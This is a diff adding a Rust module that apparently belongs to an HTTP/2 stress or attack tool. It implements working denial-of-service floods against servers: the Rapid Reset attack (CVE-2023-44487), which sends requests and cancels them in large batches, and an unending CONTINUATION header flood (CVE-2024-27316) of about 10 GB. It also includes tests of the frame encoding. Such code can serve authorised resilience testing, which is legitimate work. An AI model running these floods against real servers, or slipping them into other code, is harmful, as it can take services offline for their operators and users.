@@ -1,0 +1,116 @@
+//! Floods over HTTP/2 (RFC 9113), frame by frame: what a well-made client does not send.
+
+use std::io;
+use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
+use tokio::net::TcpStream;
+
+/// What a client begins with, and an empty SETTINGS frame.
+const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00";
+/// `:method: GET`, `:scheme: http`, `:path: /`, `:authority: a`, as HPACK (RFC 7541).
+const HEAD: &[u8] = &[0x82, 0x86, 0x84, 0x41, 0x01, b'a'];
+/// A header that is literal and not indexed: `x: ` and 100 bytes.
+const FIELD_BYTES: usize = 100;
+/// Such headers in a frame.
+const FIELDS: usize = 100;
+/// Frames of a head without an end: 10 GB.
+const FRAMES_MAX: usize = 1_000_000;
+/// Requests that are sent and cancelled in one write.
+const BATCH: u32 = 100;
+/// The largest stream id.
+const STREAM_MAX: u32 = (1 << 31) - 1;
+
+const HEADERS: u8 = 0x1;
+const RST_STREAM: u8 = 0x3;
+const CONTINUATION: u8 = 0x9;
+const END_STREAM: u8 = 0x1;
+const END_HEADERS: u8 = 0x4;
+const CANCEL: [u8; 4] = [0, 0, 0, 8];
+
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let length = (payload.len() as u32).to_be_bytes();
+    let mut frame = length[1..].to_vec();
+    frame.extend([kind, flags]);
+    frame.extend(stream.to_be_bytes());
+    frame.extend(payload);
+    frame
+}
+
+/// Cancels each request as soon as it is sent (CVE-2023-44487).
+///
+/// # Errors
+/// When the server ends the connection.
+pub(crate) async fn rapid_reset(stream: &mut TcpStream) -> io::Result<()> {
+    let (mut reader, mut writer) = stream.split();
+    let flood = async {
+        writer.write_all(PREFACE).await?;
+        let mut id = 1;
+        while id < STREAM_MAX - 2 * BATCH {
+            let mut frames = Vec::new();
+            for _ in 0..BATCH {
+                frames.extend(frame(HEADERS, END_HEADERS | END_STREAM, id, HEAD));
+                frames.extend(frame(RST_STREAM, 0, id, &CANCEL));
+                id += 2;
+            }
+            writer.write_all(&frames).await?;
+        }
+        io::Result::Ok(())
+    };
+    tokio::try_join!(flood, until_closed(&mut reader)).map(drop)
+}
+
+/// Sends a head that has no end, in CONTINUATION frames (CVE-2024-27316 and others).
+///
+/// # Errors
+/// When the server ends the connection.
+pub(crate) async fn continuation(stream: &mut TcpStream) -> io::Result<()> {
+    let (mut reader, mut writer) = stream.split();
+    let flood = async {
+        writer.write_all(PREFACE).await?;
+        writer.write_all(&frame(HEADERS, END_STREAM, 1, HEAD)).await?;
+        let mut field = vec![0x00, 0x01, b'x', FIELD_BYTES as u8];
+        field.extend([b'y'; FIELD_BYTES]);
+        let fields = field.repeat(FIELDS);
+        for _ in 0..FRAMES_MAX {
+            writer.write_all(&frame(CONTINUATION, 0, 1, &fields)).await?;
+        }
+        io::Result::Ok(())
+    };
+    tokio::try_join!(flood, until_closed(&mut reader)).map(drop)
+}
+
+/// Reads what comes; the end of it is an error, so that the other half ends too.
+async fn until_closed(reader: &mut (impl tokio::io::AsyncRead + Unpin)) -> io::Result<()> {
+    let mut some = [0; 4096];
+    while reader.read(&mut some).await? > 0 {}
+    Err(io::ErrorKind::UnexpectedEof.into())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_frame_has_its_length_kind_flags_and_stream() {
+        assert_eq!(
+            frame(RST_STREAM, 0, 3, &CANCEL),
+            [0, 0, 4, 3, 0, 0, 0, 0, 3, 0, 0, 0, 8]
+        );
+    }
+
+    /// An HTTP/2 server of the library takes the head as one.
+    #[tokio::test]
+    async fn the_head_is_a_request() {
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let address = listener.local_addr().unwrap();
+        let server = tokio::spawn(async move {
+            let (stream, _) = listener.accept().await.unwrap();
+            let mut connection = h2::server::handshake(stream).await.unwrap();
+            let (request, _) = connection.accept().await.unwrap().unwrap();
+            (request.method().clone(), request.uri().path().to_owned())
+        });
+        let mut stream = TcpStream::connect(address).await.unwrap();
+        let frames = [PREFACE, &frame(HEADERS, END_HEADERS | END_STREAM, 1, HEAD)].concat();
+        stream.write_all(&frames).await.unwrap();
+        assert_eq!(server.await.unwrap(), (http::Method::GET, "/".to_owned()));
+    }
+}
